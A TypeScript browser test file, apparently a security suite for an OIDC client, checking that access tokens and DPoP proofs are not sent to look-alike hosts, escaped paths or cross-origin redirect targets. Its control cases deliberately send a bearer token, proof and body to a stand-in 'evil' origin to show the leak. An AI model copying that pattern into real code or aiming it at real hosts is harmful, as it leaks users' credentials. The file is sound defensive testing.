// Attacks L-01, L-02, L-04 and L-07: the access token to another host, path or origin than the listed ones.
import * as step from '../browser/fixtures.ts'
import { climbs, strangers } from '../browser/strange-urls.ts'
import { attack, type Stage } from './attack.ts'
import type { Outcome } from './row.ts'

const { expect } = step

/** Whether a foreign host has seen a header, a body or anything else of a call. */
const heardAbroad = ({ evil }: Stage): Outcome => (evil.log.length > 0 ? 'not stopped' : 'stopped')

/** The codes or statuses of calls, one after another in one page. */
function callAll(stage: Stage, urls: string[]): Promise<(number | string)[]> {
  return stage.tab.evaluate(async (asked) => {
    const outcomes: (number | string)[] = []
    for (const url of asked) outcomes.push(await window.statusOf(window.oidc.fetch(url)))
    return outcomes
  }, urls)
}

/** A careless app carries its token to whatever URL it is given. */
async function callCarelessly({ tab, evil }: Stage): Promise<void> {
  await step.openApp(tab)
  await tab.evaluate(
    (url) =>
      fetch(url, { headers: { authorization: 'Bearer careless', dpop: 'proof' } }).then(() => undefined),
    `${evil.origin}/orders`,
  )
}

attack({
  id: 'L-02',
  name: `URLs that look like a listed one (${strangers.length}): other hosts, user names, ports, schemes, blob:`,
  expected: 'stopped',
  async run(stage) {
    const { api, evil, tab } = stage
    await step.openSignedIn(tab)
    const before = api.log.length
    const urls = strangers.map(([, url]) => url({ api: api.origin, evil: evil.origin }))
    for (const outcome of await callAll(stage, urls))
      expect(String(outcome)).toMatch(/OIDC_RESOURCE_NOT_LISTED|TypeError/)
    expect(api.log.length).toBe(before)
    return heardAbroad(stage)
  },
  async control(stage) {
    await callCarelessly(stage)
    return heardAbroad(stage)
  },
})

attack({
  id: 'L-03',
  name: `ways to climb out of a listed path (${climbs.length})`,
  expected: 'stopped',
  async run(stage) {
    const { api, app, tab } = stage
    app.options['resources'] = [`${api.origin}/v1`]
    await step.openSignedIn(tab)
    const urls = climbs.map((path) => `${api.origin}${path}`)
    expect(new Set(await callAll(stage, urls))).toEqual(new Set(['OIDC_RESOURCE_NOT_LISTED']))
    return api.count('resource') > 0 ? 'not stopped' : 'stopped'
  },
  async control(stage) {
    const { api, app, tab } = stage
    app.options['resources'] = [api.origin]
    await step.openSignedIn(tab)
    await callAll(stage, [`${api.origin}/admin`])
    return api.count('resource') > 0 ? 'not stopped' : 'stopped'
  },
})

const statuses = [301, 302, 303, 307, 308] as const

attack({
  id: 'L-07',
  name: 'a listed API that redirects to another origin: header, proof and body (5 statuses, GET and POST)',
  expected: 'stopped',
  async run(stage) {
    const { api, evil, tab } = stage
    await step.openSignedIn(tab)
    for (const status of statuses) {
      api.switches.redirect = { status, to: `${evil.origin}/orders` }
      const outcomes = await tab.evaluate(async (url) => {
        const post = { method: 'POST', body: 'payload' }
        const found: (number | string)[] = []
        for (const init of [
          {},
          post,
          { redirect: 'follow' },
          { ...post, redirect: 'follow' },
        ] as RequestInit[])
          found.push(await window.statusOf(window.oidc.fetch(`${url}?${found.length}`, init)))
        return found
      }, `${api.origin}/to-${status}`)
      expect(new Set(outcomes)).toEqual(new Set(['TypeError']))
    }
    return heardAbroad(stage)
  },
  async control(stage) {
    const { api, evil, tab } = stage
    await step.openApp(tab)
    api.switches.redirect = { status: 307, to: `${evil.origin}/orders` }
    await tab.evaluate(async (url) => {
      await fetch(url, {
        method: 'POST',
        body: 'payload',
        headers: { authorization: 'Bearer x', dpop: 'proof' },
      })
    }, `${api.origin}/control`)
    expect(evil.last('anything')).toMatchObject({ body: 'payload', headers: { dpop: 'proof' } })
    return heardAbroad(stage)
  },
})
